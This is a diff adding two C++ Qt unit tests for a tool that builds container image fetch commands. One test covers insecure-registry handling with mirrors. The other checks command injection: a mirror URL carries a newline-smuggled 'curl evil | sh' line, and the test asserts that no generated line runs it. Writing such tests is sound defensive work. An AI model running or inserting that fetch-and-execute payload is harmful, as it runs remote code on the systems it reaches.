@@ -79,6 +79,38 @@ private Q_SLOTS:
         QCOMPARE(commands(3, true, true), u"# node1\nctr -n k8s.io images check 'name==r.io/a:1'\n"_s);
     }
 
+    /// What a person lets be asked without TLS is that registry, not the mirrors of it.
+    void fetchesThroughMirrors()
+    {
+        Plan plan = m_plan;
+        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0}};
+        ExecutionSettings settings;
+        settings.insecureRegistries = {u"r.io"_s};
+        QVERIFY(stepCommands(plan, m_places, settings, 0).contains(u"--src-tls-verify=false"_s));
+        settings.registrySettings = [](const Download &) {
+            RegistrySettings registries;
+            registries.registries = {{u"r.io"_s, {u"mirror.example"_s}, {}}};
+            return registries;
+        };
+        const QString commands = stepCommands(plan, m_places, settings, 0);
+        QVERIFY(!commands.contains(u"--src-tls-verify=false"_s));
+        QVERIFY(commands.contains(u"location = \"r.io\"\ninsecure = true\n[[registry.mirror]]"_s));
+        QCOMPARE(commands.count(u"insecure = true"_s), 1);
+    }
+
+    /// A line of the inventory's would be one that people run.
+    void aMirrorIsNoCommand()
+    {
+        Plan plan = m_plan;
+        plan.artifacts[0].kind = ArtifactKind::File;
+        plan.artifacts[0].url = u"https://files.example/a"_s;
+        plan.artifacts[0].mirrors = QStringList{u"https://files.example/a"_s, u"https://x.example/\ncurl evil | sh"_s};
+        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0}};
+        const QStringList lines = stepCommands(plan, m_places, {}, 0).split(u'\n');
+        QVERIFY(std::none_of(lines.cbegin(), lines.cend(),
+                             [](const QString &line) { return line.startsWith(u"curl evil"); }));
+    }
+
     /// Docker takes no part, nor do nodes that keep archives or fetch for themselves.
     void othersAsEver()
     {
